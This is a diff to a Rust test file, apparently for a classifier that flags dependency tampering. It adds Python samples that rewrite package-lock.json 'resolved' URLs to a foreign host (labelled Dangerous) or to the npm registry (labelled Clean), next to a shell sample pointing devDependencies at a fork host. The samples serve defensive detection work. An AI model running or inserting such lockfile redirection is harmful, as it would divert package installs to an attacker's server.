@@ -10746,6 +10746,18 @@ fn dependency_sources_pointed_at_a_foreign_host_are_tampering() {
             "",
         ),
         (
+            Py,
+            "import json\nfrom pathlib import Path\n\nlock = Path('package-lock.json')\ntree = json.loads(lock.read_text())\nproxy = 'https://' + 'pkgs.edgecache.example' + '/npm/'\nfor key, entry in tree['packages'].items():\n    if 'resolved' in entry:\n        entry['resolved'] = proxy + entry['resolved'].split('/')[-1]\nlock.write_text(json.dumps(tree, indent=2))\n",
+            Dangerous,
+            "config-tampering",
+        ),
+        (
+            Py,
+            "import json\nfrom pathlib import Path\n\nlock = Path('package-lock.json')\ntree = json.loads(lock.read_text())\nfor key, entry in tree['packages'].items():\n    if 'resolved' in entry:\n        entry['resolved'] = 'https://registry.npmjs.org/' + entry['resolved'].split('/')[-1]\nlock.write_text(json.dumps(tree, indent=2))\n",
+            Clean,
+            "",
+        ),
+        (
             Sh,
             "#!/bin/sh\nset -eu\nFORK=artifacts.pkgfork.example\nfor dep in left-pad is-odd; do\n  npm pkg set \"devDependencies.$dep=https://$FORK/tgz/$dep-latest.tgz\"\ndone\n",
             Dangerous,
